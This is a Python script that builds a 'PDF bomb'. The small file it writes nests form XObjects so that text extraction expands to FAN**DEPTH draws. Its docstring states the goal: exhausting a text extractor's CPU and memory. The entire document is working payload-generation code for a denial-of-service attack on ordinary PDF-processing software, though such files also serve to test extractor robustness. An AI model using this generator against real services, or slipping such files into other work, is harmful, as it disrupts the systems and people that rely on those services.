"""pdf_bomb.py DEPTH FAN OUT - writes a small PDF whose one page draws a form XObject that draws
the one below it FAN times, DEPTH levels deep, above a form showing one line of text: FAN**DEPTH
text draws from about two kilobytes, the fan-out bomb that costs a text extractor minutes of CPU
and hundreds of megabytes (no stream is large; the blow-up is all in the drawing)."""
import sys

depth, fan, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
objs = []


def add(body):
    objs.append(body)
    return len(objs)


def form(content, child, font):
    fonts = b"/Font << /F1 %d 0 R >>" % font
    res = b"<< %s >>" % fonts if child is None else b"<< %s /XObject << /X %d 0 R >> >>" % (fonts, child)
    return (b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources %s /Length %d >>\n"
            b"stream\n%s\nendstream" % (res, len(content), content))


font = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
below = add(form(b"BT /F1 9 Tf 10 10 Td (Revenue grew in the year) Tj ET", None, font))
for _ in range(depth):
    below = add(form(b" ".join([b"q /X Do Q"] * fan), below, font))
draw = b"q /X Do Q"
contents = add(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(draw), draw))
pages = len(objs) + 2
page = add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
           b"/Resources << /XObject << /X %d 0 R >> /Font << /F1 %d 0 R >> >> >>" % (pages, contents, below, font))
add(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page)
root = add(b"<< /Type /Catalog /Pages %d 0 R >>" % pages)
pdf = bytearray(b"%PDF-1.4\n")
offsets = []
for i, body in enumerate(objs):
    offsets.append(len(pdf))
    pdf += b"%d 0 obj\n%s\nendobj\n" % (i + 1, body)
xref = len(pdf)
pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
for off in offsets:
    pdf += b"%010d 00000 n \n" % off
pdf += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, root, xref)
with open(out, "wb") as f:
    f.write(pdf)
